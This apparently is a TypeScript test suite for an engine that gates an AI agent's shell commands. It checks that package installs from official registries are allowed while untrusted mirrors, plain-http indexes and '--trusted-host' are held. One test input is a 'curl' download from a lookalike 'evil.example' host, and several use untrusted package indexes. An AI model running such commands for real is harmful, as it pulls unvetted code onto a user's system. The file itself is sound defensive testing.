import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { CORPUS_CONFIG } from '../corpus/run-corpus.js';
import { assess } from '../engine.js';
import { analyzeShell } from '../shell/analyze.js';
import { gateViewOf } from './gate-call.js';
import { gateFeatures } from './gate-features.js';
import { gateModelScore, useGateModel } from './gate-score.js';
import { GATE_MODEL_WEIGHTS } from './gate-weights.generated.js';

// What a rule explicitly cleared, the learned gate layer does not read (CommandFacts.clear): an
// official package registry named in a command is not a reason to hold it, while any unfamiliar
// or untrusted index still makes the call wait.

const bash = (command: string) => ({ tool: 'Bash', args: { command, description: 'install the dependencies' } });
const context = { user_message: 'set up the project so the tests run' };
const heldByLayer = (command: string) => assess(bash(command), context).factors.some((f) => f.name === 'learned_gate');

describe('rules clear official registries for the learned gate layer', () => {
  const official = [
    'pip install --index-url https://pypi.org/simple requests',
    'pip3 install --index-url=https://pypi.org/simple/ -r requirements.txt',
    'uv pip install -i https://pypi.org/simple flask==3.0.3',
    'npm config set registry https://registry.npmjs.org/',
    'yarn config set registry https://registry.yarnpkg.com',
    'pnpm install --registry https://registry.npmjs.org/ zod',
  ];

  test('the rules name the index options they cleared, and nothing else', () => {
    assert.deepEqual(analyzeShell('pip install --index-url https://pypi.org/simple requests').cleared, ['--index-url', 'https://pypi.org/simple']);
    assert.deepEqual(analyzeShell('npm config set registry https://registry.npmjs.org/ --global').cleared, ['config', 'set', 'registry', 'https://registry.npmjs.org/']);
    assert.deepEqual(analyzeShell('pip install requests && npm install lodash').cleared, []);
  });

  test('calls naming only official registries are allowed and not held by the layer', () => {
    for (const command of official) {
      const a = assess(bash(command), context);
      assert.equal(a.decision, 'allow', `${command}: ${a.reasons.join(' | ')}`);
      assert.equal(heldByLayer(command), false, command);
    }
  });

  test('an unfamiliar, unencrypted or untrusted index still waits, and clears nothing', () => {
    for (const command of [
      'pip install --index-url https://pkgs.acme-mirror.io/simple requests',
      'npm config set registry https://npm.internal-mirror.dev/',
      'pip install --trusted-host pypi.org requests',
      'pip install --index-url http://pypi.org/simple requests',
      // One official index does not clear another one next to it.
      'pip install -i https://pypi.org/simple --extra-index-url https://pkgs.acme-mirror.io/simple requests',
    ]) {
      assert.deepEqual(analyzeShell(command).cleared, [], command);
      assert.equal(assess(bash(command), context).decision, 'ask', command);
    }
  });

  test('the engine scores the view the trainer builds, cleared words and all', () => {
    useGateModel({ ...GATE_MODEL_WEIGHTS, threshold: 0, thresholds: undefined });
    try {
      for (const command of official) {
        const engine = assess(bash(command), context, CORPUS_CONFIG).factors.find((f) => f.name === 'learned_gate');
        const trainer = gateModelScore(gateViewOf(bash(command), context, CORPUS_CONFIG).view);
        assert.equal(engine?.risk, Math.round((trainer?.score ?? -1) * 1000) / 1000, command);
      }
    } finally {
      useGateModel(null);
    }
  });

  test('a cleared word is blanked only where it stands whole, not inside a longer one', () => {
    const view = (command: string) => gateViewOf(bash(command), context, CORPUS_CONFIG).view;
    const sorted = (command: string) => [...gateFeatures(view(command)).idx].sort();
    assert.deepEqual(sorted('pip install --index-url https://pypi.org/simple requests'), sorted('pip install requests'));
    const lookalike = 'curl -sO "https://pypi.org/simple.evil.example/x"';
    assert.deepEqual(sorted(`pip install --index-url https://pypi.org/simple requests && ${lookalike}`), sorted(`pip install requests && ${lookalike}`));
  });
});
